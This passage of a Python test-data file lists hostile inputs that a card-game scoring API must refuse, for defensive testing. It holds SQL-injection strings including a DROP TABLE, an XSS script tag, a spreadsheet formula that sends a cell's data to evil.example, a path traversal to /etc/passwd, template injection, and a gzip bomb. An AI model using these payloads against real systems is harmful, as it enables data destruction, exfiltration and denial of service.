"""The hostile inputs, as data: one ``Case`` per line of the table, walked by
``test_hostile_input.py``. Adding a case is adding a line.

Every case aims at an operation of the OpenAPI document (``op``), with the game of the world
(``{game}``), its hand 1 (``{number}``) and its edit token unless it says otherwise, and
expects one status and, where it matters, one problem code. Nothing a case sends may change
anything: each is refused whole.

The bodies are derived from one valid body per operation (``VALID``, checked valid by the
suite): a field of it is replaced (``at``), or the whole body by bytes (``raw``)."""

from __future__ import annotations

import copy
import gzip
import json
from dataclasses import dataclass, field
from typing import Any

from http_support import gatti3_hand

API = "/api/v1"
GAME = f"{API}/games/{{game_id}}"
HAND = f"{GAME}/hands/{{number}}"

Op = tuple[str, str]  # (method, path) as in openapi/openapi.yaml

HEALTH: Op = ("get", f"{API}/health")
READY: Op = ("get", f"{API}/ready")
VARIANTS: Op = ("get", f"{API}/variants")
VARIANT: Op = ("get", f"{API}/variants/{{variant_id}}")
RULES: Op = ("get", f"{API}/variants/{{variant_id}}/rules")
SCORE: Op = ("post", f"{API}/score")
MELDS: Op = ("post", f"{API}/melds/suggest")
TRICK: Op = ("post", f"{API}/adjudicate/trick")
CREATE: Op = ("post", f"{API}/games")
IMPORT: Op = ("post", f"{API}/games/import")
READ_GAME: Op = ("get", GAME)
ADD_HAND: Op = ("post", f"{GAME}/hands")
READ_HAND: Op = ("get", HAND)
CORRECT: Op = ("put", HAND)
DELETE: Op = ("delete", HAND)
HISTORY: Op = ("get", f"{GAME}/history")
PLAYERS: Op = ("get", f"{GAME}/players")
#: A player's verdict on a hand: sent with a player's token (``hostile_world.send``).
VERDICT: Op = ("post", f"{HAND}/confirmations")
#: Events: the world's event has played no hand, its round 1 open; sent with the
#: event's edit token.
EVENT = f"{API}/events/{{event_id}}"
EV_CREATE: Op = ("post", f"{API}/events")
EV_READ: Op = ("get", EVENT)
EV_ROUNDS: Op = ("post", f"{EVENT}/rounds")
EV_ROUND: Op = ("get", f"{EVENT}/rounds/{{number}}")
EV_SWAP: Op = ("put", f"{EVENT}/rounds/{{number}}")
EV_CLOSE: Op = ("post", f"{EVENT}/rounds/{{number}}/close")
#: The organiser's correction of a table's hand.
EV_HAND: Op = ("put", f"{EVENT}/rounds/{{number}}/tables/{{table}}/hands/{{hand}}")
EV_STANDINGS: Op = ("get", f"{EVENT}/standings")
EV_PDF: Op = ("get", f"{EVENT}/standings.pdf")
EV_HISTORY: Op = ("get", f"{EVENT}/history")
EV_JSON: Op = ("get", f"{EVENT}.json")
EV_CSV: Op = ("get", f"{EVENT}.csv")
EV_LINKS: Op = ("get", f"{EVENT}/links")
#: A duplicate event's boards and deal slips.
EV_BOARDS: Op = ("get", f"{EVENT}/boards")
EV_SLIPS: Op = ("get", f"{EVENT}/boards.pdf")
EV_TRAVELLER: Op = ("get", f"{EVENT}/boards/{{board}}")
#: One field across many clubs: the world's event plays in none.
EV_FIELD: Op = ("get", f"{EVENT}/field")
EV_FIELD_BOARD: Op = ("get", f"{EVENT}/field/boards/{{board}}")
#: The round's clock and the prize list, set by the organiser; the prize list read by either.
EV_CLOCK: Op = ("put", f"{EVENT}/clock")
EV_PRIZES: Op = ("get", f"{EVENT}/prizes")
EV_PRIZES_SET: Op = ("put", f"{EVENT}/prizes")
#: The organiser's key card: the edit link printed.
EV_KEYCARD: Op = ("get", f"{EVENT}/keycard.pdf")
#: The door (the world's event takes no check-ins), its poster, and the entrants' own pages
#: (``{number}``: an entrant, numbered from 0; the world's event seats 0, 1 and 2 in round 1).
EV_DOOR: Op = ("get", f"{EVENT}/door")
EV_CHECKIN: Op = ("post", f"{EVENT}/checkins")
EV_POSTER: Op = ("get", f"{EVENT}/poster.pdf")
EV_ADD_ENTRANT: Op = ("post", f"{EVENT}/entrants")
EV_ENTRANT: Op = ("get", f"{EVENT}/entrants/{{number}}")
EV_REMOVE_ENTRANT: Op = ("delete", f"{EVENT}/entrants/{{number}}")
EV_WITHDRAW: Op = ("post", f"{EVENT}/entrants/{{number}}/withdraw")
EV_RETURN: Op = ("post", f"{EVENT}/entrants/{{number}}/return")
#: The organiser's release of a board a duplicate table was refused too often.
EV_RELEASE: Op = ("post", f"{EVENT}/rounds/{{number}}/tables/{{table}}/boards/{{board}}/release")
#: Clubs: the world's club has two members, Anna (``{member}``, every member
#: operation's) and Bruno (``{member2}``); sent with the club's edit token.
CLUB = f"{API}/clubs/{{club_id}}"
MEMBER = f"{CLUB}/members/{{member_id}}"
CL_CREATE: Op = ("post", f"{API}/clubs")
CL_READ: Op = ("get", CLUB)
CL_LINKS: Op = ("get", f"{CLUB}/links")
CL_MEMBERS: Op = ("get", f"{CLUB}/members")
CL_ADD: Op = ("post", f"{CLUB}/members")
CL_MEMBER: Op = ("get", MEMBER)
CL_CHANGE: Op = ("patch", MEMBER)
CL_MERGE: Op = ("post", f"{MEMBER}/merge")
CL_UNMERGE: Op = ("post", f"{MEMBER}/unmerge")
CL_FORGET: Op = ("post", f"{MEMBER}/forget")
CL_HISTORY: Op = ("get", f"{CLUB}/history")
CL_JSON: Op = ("get", f"{CLUB}.json")
CL_CSV: Op = ("get", f"{CLUB}.csv")
#: The secretary's key card: the edit link printed.
CL_KEYCARD: Op = ("get", f"{CLUB}/keycard.pdf")
#: Seasons: the world's club has one (``{season}``), and no game.
SEASON = f"{CLUB}/seasons/{{season_id}}"
CL_SEASONS: Op = ("get", f"{CLUB}/seasons")
CL_SEASON_ADD: Op = ("post", f"{CLUB}/seasons")
CL_SEASON: Op = ("get", SEASON)
CL_STANDINGS: Op = ("get", f"{SEASON}/standings")
CL_STANDINGS_CSV: Op = ("get", f"{SEASON}/standings.csv")
CL_STANDINGS_PDF: Op = ("get", f"{SEASON}/standings.pdf")
#: Ratings: the world's club rates its games of a family, named in the query.
CL_RATINGS: Op = ("get", f"{CLUB}/ratings")
CL_MEMBER_RATINGS: Op = ("get", f"{MEMBER}/ratings")
#: A member's statistics: all time unless a season or a variant is asked.
CL_STATS: Op = ("get", f"{MEMBER}/stats")
#: The service's administration: the world's service has no admin token, so none at all.
ADM_CLUB: Op = ("post", f"{API}/admin/clubs/{{club_id}}/tokens")
ADM_EVENT: Op = ("post", f"{API}/admin/events/{{event_id}}/tokens")
ADM_GAME: Op = ("post", f"{API}/admin/games/{{game_id}}/tokens")
ADM_LISTS: tuple[Op, ...] = tuple(("get", f"{API}/admin/{kind}")
                                  for kind in ("clubs", "events", "games"))
ADM_DELETES: tuple[Op, ...] = (("delete", f"{API}/admin/clubs/{{club_id}}"),
                               ("delete", f"{API}/admin/events/{{event_id}}"),
                               ("delete", f"{API}/admin/games/{{game_id}}"))
#: Publishing an event's or a club's results (edit token), and reading them without a token.
EV_PUBLISH: Op = ("patch", EVENT)
CL_PUBLISH: Op = ("patch", CLUB)
PUB_EVENT: Op = ("get", f"{API}/public/events/{{event_id}}")
PUB_CLUB: Op = ("get", f"{API}/public/clubs/{{club_id}}")
#: The query a GET needs to answer 200 (the rest of its cases send it too).
QUERIES: dict[Op, str] = {CL_RATINGS: "?family=gatti", CL_MEMBER_RATINGS: "?family=gatti"}
#: The scorekeeper's "the evening is over" and its undo: the world's game is of gatti-3.
END: Op = ("post", f"{GAME}/end")
REOPEN: Op = ("post", f"{GAME}/reopen")
SHEET: Op = ("get", f"{GAME}/sheet.pdf")
JSON_EXPORT: Op = ("get", f"{GAME}.json")
CSV_EXPORT: Op = ("get", f"{GAME}.csv")

#: The methods that change a hand, sent with ``If-Match``.
WRITE_METHODS = {"PUT", "DELETE"}
#: A path's parameters as the world fills them.
DEFAULTS = {"game_id": "{game}", "event_id": "{event}", "number": "1", "variant_id": "gatti-3",
            "table": "1", "hand": "1", "club_id": "{club}", "member_id": "{member}",
            "season_id": "{season}", "board": "1"}


@dataclass(frozen=True)
class Case:
    op: Op
    name: str
    status: int
    code: str | None = None
    path: str | None = None  # the path sent, if not the operation's with the defaults
    method: str | None = None  # the method sent, if not the operation's
    at: tuple[str | int, ...] | None = None  # where in the valid body ``value`` goes
    value: Any = None
    body: Any = None  # the whole body, as JSON
    raw: bytes | None = None  # the whole body, as bytes
    content_type: str | None = "application/json"
    headers: dict[str, str] = field(default_factory=dict)
    if_match: str | None = "*"  # sent with a PUT or a DELETE: any version of the hand


# -- valid bodies -------------------------------------------------------------------------------

#: One valid body per operation that takes one. ``{import}`` is the world's own export.
VALID: dict[Op, Any] = {
    SCORE: {"variant": "gatti-3", "hand": gatti3_hand(0)},
    MELDS: {"variant": "gatti-3", "cards": ["JD", "CD", "QD", "KD", "KH", "KS", "2C"]},
    TRICK: {"variant": "gatti-3", "leader": 0, "cards": ["KH", "3S", "T5"],
            "hands": {"1": ["3S", "4H"]}},
    CREATE: {"variant": "gatti-3", "players": ["Anna", "Bruno", "Carla"], "first_dealer": 0},
    ADD_HAND: gatti3_hand(2),
    CORRECT: gatti3_hand(0, counting_to=1),
    IMPORT: "{import}",
    VERDICT: {"verdict": "dispute", "reason": "Bruno had the Fool, not Anna"},
    EV_CREATE: {"name": "Sera", "variant": "gatti-3", "format": "individual",
                "entrants": [{"name": "Anna"}, {"name": "Bruno"}, {"name": "Carla"}]},
    CL_CREATE: {"name": "Circolo del Giovedì"},
    CL_ADD: {"name": "Zeno", "initials": "Z"},
    CL_CHANGE: {"name": "Ugo", "initials": None, "active": False},
    # Last: the world's Anna merged into its Bruno (``{member2}``: the world fills it).
    CL_MERGE: {"into": "{member2}"},
    CL_SEASON_ADD: {"name": "Primavera", "from": "2026-03-01", "to": "2026-05-31",
                    "families": ["gatti"], "counting": "best_n", "n": 5},
    EV_PUBLISH: {"public": True},
    CL_PUBLISH: {"public": True, "public_ratings": True},
}
#: Where each body keeps a whole number, and a short identifier-like text.
NUMBER_AT: dict[Op, tuple[str | int, ...]] = {
    SCORE: ("hand", "dealer"), MELDS: ("cards",), TRICK: ("leader",), CREATE: ("first_dealer",),
    ADD_HAND: ("dealer",), CORRECT: ("dealer",), IMPORT: ("format_version",),
    CL_SEASON_ADD: ("n",),
}
TEXT_AT: dict[Op, tuple[str | int, ...]] = {
    SCORE: ("variant",), MELDS: ("cards", 0), TRICK: ("cards", 0), CREATE: ("variant",),
    ADD_HAND: ("discard", 0), CORRECT: ("discard", 0), IMPORT: ("game", "variant"),
    VERDICT: ("verdict",),
    EV_CREATE: ("variant",),
    CL_CREATE: ("name",), CL_ADD: ("name",), CL_CHANGE: ("name",), CL_MERGE: ("into",),
    CL_SEASON_ADD: ("families", 0),
    # A boolean: any text (or number, object, list) in its place is refused.
    EV_PUBLISH: ("public",), CL_PUBLISH: ("public",),
}
#: Where a name goes rather than an identifier: injected and odd text that a reader can see
#: is a name like any other (stored as typed: ``test_a_member_may_be_named_anything_printable``),
#: so those cases are not sent there.
NAME_AT = {CL_CREATE, CL_ADD, CL_CHANGE}
#: The odd texts that are names a reader can see.
PRINTABLE_ODD = ("RTL override", "combining accent", "zero-width joiner")
#: What a body over its size limit is: 1 MiB, an import's 16 MiB.
LIMIT = {op: 1024 * 1024 for op in VALID} | {IMPORT: 16 * 1024 * 1024}


def put(body: Any, at: tuple[str | int, ...], value: Any) -> Any:
    body = copy.deepcopy(body)
    target = body
    for key in at[:-1]:
        target = target[key]
    target[at[-1]] = value
    return body


# -- the table ----------------------------------------------------------------------------------

INJECTIONS = {
    "SQL": "x'); DROP TABLE games; --",
    "SQL tautology": "' OR '1'='1",
    "HTML": "<script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "path": "../../../../etc/passwd",
    "template": "{{7*7}}${7*7}",
}
ODD_TEXT = {
    "NUL": "gatti-3\u0000",
    "RTL override": "\u202egatti-3",
    "combining accent": "gatti-3\u0301",
    "zero-width joiner": "gatti\u200d-3",
    "10,000 characters": "x" * 10_000,
    "empty": "",
}
#: Malformed JSON, in a body's place: where it breaks, and how.
MALFORMED = {
    "lone surrogate in a value": b'{"variant": "gatti-3\\ud800"}',
    "lone low surrogate": b'{"variant": "\\udc00"}',
    "lone surrogate in a key": b'{"\\ud800": 1}',
    "NaN": b'{"dealer": NaN}',
    "Infinity": b'{"dealer": -Infinity}',
    "a 5,000-digit number": b'{"dealer": ' + b"9" * 5000 + b"}",
    "nesting 100,000 deep": b"[" * 100_000 + b"]" * 100_000,
    "bytes that are no UTF-8": b'{"variant": "\xff\xfe"}',
    "a byte order mark": b'\xef\xbb\xbf{"variant": "gatti-3"}',
    "trailing garbage": b'{"variant": "gatti-3"} x',
    "two values": b'{"variant": "gatti-3"}{"variant": "gatti-3"}',
    "cut short": b'{"variant": "gatti-3", "pla',
    "single quotes": b"{'variant': 'gatti-3'}",
}


def body_cases(op: Op) -> list[Case]:
    """What every operation that takes a body is sent: wrong shapes and types, missing and
    unknown fields, huge and negative numbers, odd and injected text where an identifier
    goes, malformed JSON, too much of it, and the wrong media type or encoding."""
    text_at = TEXT_AT[op]
    cases = [
        Case(op, "the body is a list", 422, body=[]),
        Case(op, "the body is a string", 422, body="gatti-3"),
        Case(op, "the body is null", 422, raw=b"null"),
        Case(op, "the body is a number", 422, raw=b"7"),
        Case(op, "the body is an empty object", 422, "invalid_request", body={}),
        Case(op, "the body is empty", 422, raw=b""),
        Case(op, "an unknown field", 422, "invalid_request", at=("zzz_unknown",), value=1),
        Case(op, "an unknown field 200 deep", 422, "invalid_request", at=("zzz_unknown",),
             value=json.loads("[" * 200 + "]" * 200)),
        Case(op, "text as a number", 422, at=text_at, value=7),
        Case(op, "text as an object", 422, at=text_at, value={"$ne": None}),
        Case(op, "text as a list", 422, at=text_at, value=["gatti-3"]),
    ]
    number = NUMBER_AT.get(op)  # a verdict's body holds no number
    if number is not None:
        cases += [
            Case(op, "a number as text", 422, at=number, value="1"),
            Case(op, "a number as a fraction", 422, at=number, value=1.5),
            Case(op, "a number as a boolean", 422, at=number, value=True),
            Case(op, "a number as null", 422, at=number, value=None),
            Case(op, "a huge number", 422, at=number, value=10**30),
            Case(op, "a negative number", 422, at=number, value=-1),
        ]
    cases += [Case(op, f"{name} injected for an identifier", 422, at=text_at, value=value)
              for name, value in INJECTIONS.items()]
    cases += [Case(op, f"{name} text for an identifier", 422, at=text_at, value=value)
              for name, value in ODD_TEXT.items()]
    cases += [Case(op, f"malformed JSON: {name}", 400, "malformed_json", raw=raw)
              for name, raw in MALFORMED.items()]
    cases += [
        Case(op, "a body over the limit", 413, "body_too_large",
             raw=b" " * (LIMIT[op] + 1)),
        Case(op, "plain text", 415, raw=b'{"variant": "gatti-3"}', content_type="text/plain"),
        Case(op, "a form", 415, raw=b"variant=gatti-3",
             content_type="application/x-www-form-urlencoded"),
        Case(op, "no media type", 415, raw=b'{"variant": "gatti-3"}', content_type=None),
        Case(op, "XML", 415, raw=b'<variant>gatti-3</variant>', content_type="application/xml"),
        Case(op, "an encoding not taken", 415, "unsupported_content_encoding",
             raw=b'{"variant": "gatti-3"}', headers={"Content-Encoding": "br"}),
    ]
    if op in NAME_AT:
        taken = {*(f"{name} injected for an identifier" for name in INJECTIONS),
                 *(f"{name} text for an identifier" for name in PRINTABLE_ODD)}
        cases = [case for case in cases if case.name not in taken]
    if op == IMPORT:
        cases.append(Case(op, "gzip that is not gzip", 400, "malformed_request",
                          raw=b'{"variant": "gatti-3"}', headers={"Content-Encoding": "gzip"}))
        cases.append(Case(op, "a gzip bomb", 413, "body_too_large",
                          raw=gzip.compress(b" " * (LIMIT[op] + 1)),
                          headers={"Content-Encoding": "gzip"}))
    else:
        cases.append(Case(op, "a gzip body", 415, "unsupported_content_encoding",
                          raw=gzip.compress(json.dumps(VALID[op]).encode()),
                          headers={"Content-Encoding": "gzip"}))
    return cases


ODD_GAME_IDS = {
    "a game that is not there": ("zzzzzzzzzz", 404),
    "33 characters": ("a" * 33, 404),
    "a thousand characters": ("a" * 1000, 404),
    "SQL": ("%27%20OR%20%271%27%3D%271", 404),
    "a path": ("..%2F..%2Fetc%2Fpasswd", 404),
    "NUL": ("abc%00", 404),
    "RTL override": ("%E2%80%AEabc", 404),
    "an emoji": ("%F0%9F%83%8F", 404),
    "a lone surrogate": ("%ED%A0%80", 400),
    "bytes that are no UTF-8": ("%FF%FE", 400),
}
ODD_NUMBERS = {
    "0": ("0", 404), "-1": ("-1", 404), "1001": ("1001", 404),
    "a 25-digit number": ("9" * 25, 404), "a fraction": ("1.0", 404), "a word": ("one", 404),
    "an exponent": ("1e0", 404), "a space": ("%201", 404), "a NUL": ("1%00", 404),
    "a plus": ("+1", 404), "a lone surrogate": ("%ED%A0%80", 400),
}


#: The bodies sent with odd paths to operations without a body in ``VALID``.
PATH_BODIES: dict[Op, Any] = {}


def path_cases(op: Op) -> list[Case]:
    """Odd game ids and hand numbers in the path of an operation on a game."""
    body = VALID.get(op, PATH_BODIES.get(op))
    cases = [Case(op, f"game id: {name}", status,
                  path=_path(op, game_id=value, event_id=value, club_id=value), body=body)
             for name, (value, status) in ODD_GAME_IDS.items()]
    if "{number}" in op[1]:
        cases += [Case(op, f"hand number: {name}", status, path=_path(op, number=value),
                       body=body)
                  for name, (value, status) in ODD_NUMBERS.items()]
    return cases


def _path(op: Op, **values: str) -> str:
    return op[1].format(**{**DEFAULTS, **values}) + QUERIES.get(op, "")


#: Methods no path takes: every path answers 405 to one it does not take.
WRONG_METHODS: dict[Op, list[str]] = {
    HEALTH: ["POST", "DELETE"], READY: ["POST", "PUT"], VARIANTS: ["PUT"], VARIANT: ["POST"], SCORE: ["GET", "PUT"],
    MELDS: ["GET"], TRICK: ["DELETE"], CREATE: ["PUT", "DELETE"], IMPORT: ["GET", "PUT"],
    READ_GAME: ["POST", "PUT", "DELETE", "PATCH"], ADD_HAND: ["GET", "PATCH"],
    READ_HAND: ["POST", "PATCH"], HISTORY: ["POST", "DELETE"], SHEET: ["POST", "PUT"],
    JSON_EXPORT: ["POST", "PUT"], CSV_EXPORT: ["DELETE"], RULES: ["POST", "DELETE"],
    PLAYERS: ["POST", "DELETE"], VERDICT: ["GET", "PUT", "DELETE"],
    EV_CREATE: ["GET", "DELETE"], EV_READ: ["POST", "PUT", "DELETE"], EV_ROUNDS: ["GET"],
    EV_ROUND: ["POST", "DELETE"], EV_CLOSE: ["GET", "PUT"], EV_STANDINGS: ["POST"],
    EV_PDF: ["POST"], EV_HISTORY: ["DELETE"], EV_JSON: ["PUT"], EV_CSV: ["POST"],
    EV_LINKS: ["POST", "DELETE"], EV_HAND: ["GET", "POST"], EV_BOARDS: ["POST", "PUT"],
    EV_SLIPS: ["POST", "DELETE"], EV_TRAVELLER: ["PUT", "DELETE"], EV_KEYCARD: ["POST"],
    EV_RELEASE: ["GET", "PUT"], EV_CLOCK: ["GET", "POST"], EV_PRIZES: ["POST", "DELETE"],
    EV_DOOR: ["POST", "DELETE"], EV_CHECKIN: ["GET", "PUT"], EV_POSTER: ["POST"],
    EV_ADD_ENTRANT: ["GET", "PUT"], EV_ENTRANT: ["POST", "PUT"], EV_WITHDRAW: ["GET"],
    EV_RETURN: ["GET", "DELETE"], EV_FIELD: ["POST", "PUT", "DELETE"],
    EV_FIELD_BOARD: ["POST", "DELETE"],
    CL_CREATE: ["GET", "DELETE"], CL_READ: ["POST", "PUT", "DELETE"], CL_LINKS: ["POST"],
    CL_MEMBERS: ["PUT", "DELETE"], CL_MEMBER: ["POST", "PUT", "DELETE"],
    CL_MERGE: ["GET", "PUT"], CL_UNMERGE: ["GET"], CL_FORGET: ["GET", "DELETE"],
    CL_HISTORY: ["POST"], CL_JSON: ["PUT"], CL_CSV: ["POST"], CL_KEYCARD: ["PUT"],
    CL_SEASONS: ["PUT", "DELETE"], CL_SEASON: ["POST", "DELETE"], CL_STANDINGS: ["POST"],
    CL_STANDINGS_CSV: ["PUT"], CL_STANDINGS_PDF: ["POST"], CL_RATINGS: ["POST"],
    CL_MEMBER_RATINGS: ["DELETE"], CL_STATS: ["POST", "PUT"], END: ["GET", "PUT"],
    REOPEN: ["GET", "DELETE"],
    PUB_EVENT: ["POST", "PUT", "PATCH", "DELETE"], PUB_CLUB: ["POST", "PUT", "PATCH", "DELETE"],
}
PATH_BODIES.update({EV_CHECKIN: {"name": "Zeno"}, EV_ADD_ENTRANT: {"name": "Zeno"},
                    EV_ROUNDS: {}, EV_SWAP: {"tables": [["Anna", "Bruno", "Carla"]]},
                    EV_CLOCK: {"round_minutes": 45}, EV_PRIZES_SET: {"prizes": [{"amount": 5}]}})
#: The odd paths every event operation is sent: a missing event, injected text, bytes that
#: are no UTF-8, and round numbers out of range or no number at all.
EVENT_ODD_PATHS = {"game id: a game that is not there", "game id: SQL", "game id: NUL",
                   "game id: a lone surrogate", "hand number: 0", "hand number: 1001",
                   "hand number: a word", "hand number: a lone surrogate"}
#: The event operations whose path takes odd ids and numbers.
EVENT_PATHS = (EV_READ, EV_ROUNDS, EV_ROUND, EV_SWAP, EV_CLOSE, EV_STANDINGS, EV_PDF,
               EV_HISTORY, EV_JSON, EV_CSV, EV_LINKS, EV_BOARDS, EV_SLIPS, EV_TRAVELLER,
               EV_KEYCARD, EV_RELEASE, EV_PUBLISH, PUB_EVENT, EV_CLOCK, EV_PRIZES,
               EV_PRIZES_SET, EV_DOOR, EV_CHECKIN, EV_POSTER, EV_ADD_ENTRANT, EV_FIELD,
               EV_FIELD_BOARD)
#: The entrants' paths: entrant 0 is there, so of the odd numbers 0 is none.
ENTRANT_PATHS = (EV_ENTRANT, EV_REMOVE_ENTRANT, EV_WITHDRAW, EV_RETURN)
ENTRANT_ODD_PATHS = EVENT_ODD_PATHS - {"hand number: 0"}

#: The club operations whose path takes odd club ids, and (under a member) odd member ids.
CLUB_PATHS = (CL_READ, CL_LINKS, CL_MEMBERS, CL_ADD, CL_MEMBER, CL_CHANGE, CL_MERGE,
              CL_UNMERGE, CL_FORGET, CL_HISTORY, CL_JSON, CL_CSV, CL_SEASONS, CL_SEASON_ADD,
              CL_SEASON, CL_STANDINGS, CL_STANDINGS_CSV, CL_STANDINGS_PDF, CL_RATINGS,
              CL_MEMBER_RATINGS, CL_STATS, CL_KEYCARD, CL_PUBLISH, PUB_CLUB)
PATH_BODIES.update({CL_CHANGE: {"initials": "X"}})


def club_path_cases(op: Op) -> list[Case]:
    """Odd club ids (and member ids) in the path of a club operation."""
    body = VALID.get(op, PATH_BODIES.get(op))
    cases = [case for case in path_cases(op) if case.name in EVENT_ODD_PATHS]
    for key in ("member_id", "season_id"):
        if f"{{{key}}}" not in op[1]:
            continue
        cases += [Case(op, f"{key.split('_')[0]} id: {name}", status,
                       path=_path(op, **{key: value}), body=body)
                  for name, (value, status) in ODD_GAME_IDS.items()
                  if f"game id: {name}" in EVENT_ODD_PATHS]
    return cases


CASES: list[Case] = [
    *(case for op in VALID for case in body_cases(op)),
    *(case for op in (READ_GAME, ADD_HAND, READ_HAND, CORRECT, DELETE, HISTORY, SHEET, PLAYERS,
                      JSON_EXPORT, CSV_EXPORT, VERDICT)
      for case in path_cases(op)),
    # An event's id takes the games' converter (every odd id is tried on the games' paths
    # above): each event path gets the odd ids that reach different layers, and its round
    # number the odd numbers.
    *(case for op in EVENT_PATHS for case in path_cases(op)
      if case.name in EVENT_ODD_PATHS),
    *(case for op in ENTRANT_PATHS for case in path_cases(op)
      if case.name in ENTRANT_ODD_PATHS),
    # The door: shut at the world's event; the roster's own rules for a name added by hand.
    Case(EV_CHECKIN, "a check-in at an event without a door", 409, "checkin_closed",
         body={"name": "Zeno"}),
    Case(EV_CHECKIN, "a check-in's name as a number, at a door that is shut", 409,
         "checkin_closed", body={"name": 5}),
    Case(EV_CHECKIN, "a check-in with an unknown field", 422,
         body={"name": "Zeno", "zzz_unknown": 1}),
    Case(EV_CHECKIN, "a check-in as a list", 422, body=[]),
    Case(EV_CHECKIN, "a check-in as malformed JSON", 400, "malformed_json", raw=b"{"),
    Case(EV_POSTER, "the poster of an event without a door", 409, "checkin_closed"),
    Case(EV_POSTER, "query: an unknown language", 422, path=_path(EV_POSTER) + "?lang=xx"),
    Case(EV_ADD_ENTRANT, "an entrant without a name", 422, body={}),
    Case(EV_ADD_ENTRANT, "an entrant's name of 61 characters", 422, body={"name": "x" * 61}),
    Case(EV_ADD_ENTRANT, "an entrant's name holding NUL", 422, body={"name": "a\u0000b"}),
    Case(EV_ADD_ENTRANT, "an entrant's name of spaces only", 422, body={"name": "   "}),
    Case(EV_ADD_ENTRANT, "a name already on the roster, in capitals", 409,
         "already_checked_in", body={"name": "ANNA"}),
    Case(EV_ADD_ENTRANT, "a pair's players at an individual event", 422,
         body={"name": "Zeno", "players": ["Zeno", "Ugo"]}),
    Case(EV_ADD_ENTRANT, "an entrant as malformed JSON", 400, "malformed_json", raw=b"{"),
    Case(EV_ENTRANT, "an entrant not on the roster", 404, path=_path(EV_ENTRANT, number="99")),
    Case(EV_REMOVE_ENTRANT, "removing an entrant seated in round 1", 409, "entrant_played"),
    Case(EV_WITHDRAW, "withdrawing an entrant not on the roster", 404,
         path=_path(EV_WITHDRAW, number="99")),
    Case(EV_RETURN, "bringing back an entrant who never withdrew", 409, "not_withdrawn"),
    # An event's round: one at a time, seated as the roster allows, swapped only within it.
    Case(EV_ROUNDS, "a round while round 1 is open", 409, "round_open", body={}),
    Case(EV_ROUNDS, "a round's body as a list", 422, body=[]),
    Case(EV_ROUNDS, "a round with an unknown field", 422, "invalid_request",
         body={"zzz_unknown": 1}),
    Case(EV_ROUNDS, "a round's body as malformed JSON", 400, "malformed_json", raw=b"{"),
    Case(EV_ROUNDS, "a round's body as plain text", 415, raw=b"{}", content_type="text/plain"),
    Case(EV_SWAP, "a swap naming someone not on the roster", 422,
         body={"tables": [["Anna", "Bruno", "Zeno"]]}),
    Case(EV_SWAP, "a swap seating someone twice", 422,
         body={"tables": [["Anna", "Bruno", "Anna"]]}),
    Case(EV_SWAP, "a swap with a table too many", 422,
         body={"tables": [["Anna", "Bruno", "Carla"], ["Anna", "Bruno", "Carla"]]}),
    Case(EV_SWAP, "a swap of a table short of a player", 422, body={"tables": [["Anna"]]}),
    Case(EV_SWAP, "a swap without tables", 422, body={}),
    Case(EV_SWAP, "a swap of a round not played", 404, path=_path(EV_SWAP, number="2"),
         body={"tables": [["Anna", "Bruno", "Carla"]]}),
    Case(EV_CLOSE, "closing a round not played", 404, path=_path(EV_CLOSE, number="2")),
    Case(EV_CLOSE, "closing with despite_disputes not a boolean", 422,
         body={"despite_disputes": "maybe"}),
    Case(EV_CLOSE, "closing with an unknown field", 422, body={"zzz_unknown": 1}),
    Case(EV_CLOCK, "a round of 4 minutes", 422, body={"round_minutes": 4}),
    Case(EV_CLOCK, "a round of 241 minutes", 422, body={"round_minutes": 241}),
    Case(EV_CLOCK, "a round's minutes as text", 422, body={"round_minutes": "45"}),
    Case(EV_CLOCK, "a negative grace", 422, body={"grace_minutes": -1}),
    Case(EV_CLOCK, "closing by itself without a clock", 422, body={"auto_close": True}),
    Case(EV_CLOCK, "the clock with an unknown field", 422, body={"zzz_unknown": 1}),
    Case(EV_CLOCK, "the clock as a list", 422, body=[]),
    Case(EV_CLOCK, "the clock as malformed JSON", 400, "malformed_json", raw=b"{"),
    Case(EV_PRIZES_SET, "a negative amount", 422, body={"prizes": [{"amount": -5}]}),
    Case(EV_PRIZES_SET, "an amount of a tenth of a cent", 422,
         body={"prizes": [{"amount": "0.001"}]}),
    Case(EV_PRIZES_SET, "an amount of NaN", 422, body={"prizes": [{"amount": "NaN"}]}),
    Case(EV_PRIZES_SET, "an amount of an overflowing exponent", 422,
         body={"prizes": [{"amount": "1e999999999"}]}),
    Case(EV_PRIZES_SET, "a prize of nothing", 422, body={"prizes": [{}]}),
    Case(EV_PRIZES_SET, "a prize with an unknown field", 422,
         body={"prizes": [{"amount": 5, "zzz": 1}]}),
    Case(EV_PRIZES_SET, "prizes as an object", 422, body={"prizes": {"amount": 5}}),
    Case(EV_PRIZES_SET, "a label of a thousand characters", 422,
         body={"prizes": [{"label": "x" * 1000}]}),
    Case(EV_PRIZES_SET, "a label holding NUL", 422, body={"prizes": [{"label": "a\u0000b"}]}),
    Case(EV_PRIZES_SET, "a label on two lines", 422, body={"prizes": [{"label": "a\nb"}]}),
    Case(EV_PRIZES_SET, "a currency not a code", 422, body={"currency": "euro"}),
    Case(EV_PRIZES_SET, "too many prizes", 422, body={"prizes": [{"amount": 1}] * 201}),
    Case(EV_PRIZES_SET, "the prizes as a list", 422, body=[]),
    Case(EV_HAND, "the organiser correcting a hand not played", 404, body=gatti3_hand(0)),
    Case(EV_HAND, "the organiser correcting at a table not there", 404,
         path=_path(EV_HAND, table="9"), body=gatti3_hand(0)),
    Case(EV_HAND, "the organiser correcting in a round not played", 404,
         path=_path(EV_HAND, number="2"), body=gatti3_hand(0)),
    Case(EV_HAND, "the organiser's correction as a list", 422, body=[]),
    Case(EV_HAND, "the organiser's correction with an unknown field", 422,
         body={**gatti3_hand(0), "zzz_unknown": 1}),
    Case(EV_ROUND, "the links of a round not played", 404, path=_path(EV_ROUND, number="3")),
    Case(EV_PDF, "query: an unknown language", 422, path=_path(EV_PDF) + "?lang=xx"),
    Case(EV_SLIPS, "query: an unknown language", 422, path=_path(EV_SLIPS) + "?lang=xx"),
    Case(EV_KEYCARD, "query: an unknown language", 422, path=_path(EV_KEYCARD) + "?lang=xx"),
    *(Case(op, "no administration on this service", 404, "not_found")
      for op in (ADM_CLUB, ADM_EVENT, ADM_GAME, *ADM_LISTS, *ADM_DELETES)),
    Case(CL_KEYCARD, "query: an unknown language", 422, path=_path(CL_KEYCARD) + "?lang=xx"),
    # The world's event deals freely: it has no boards to show or print.
    Case(EV_BOARDS, "the boards of an event of free deals", 404),
    Case(EV_SLIPS, "the slips of an event of free deals", 404),
    Case(EV_TRAVELLER, "a board's traveller at an event of free deals", 404),
